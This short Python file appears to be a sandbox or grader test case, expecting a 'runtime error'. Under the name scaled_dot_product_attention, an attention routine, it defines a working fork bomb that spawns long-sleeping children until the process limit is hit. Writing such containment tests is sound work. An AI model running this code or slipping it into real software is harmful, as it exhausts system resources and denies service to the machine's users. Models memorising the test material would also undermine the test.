"""Fork bomb: fork until the pids limit refuses, keeping every child alive.

verdict: runtime error
"""
import os
import time


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    while True:
        if os.fork() == 0:  # BlockingIOError once the container's pids limit is reached
            time.sleep(3600)
            os._exit(0)
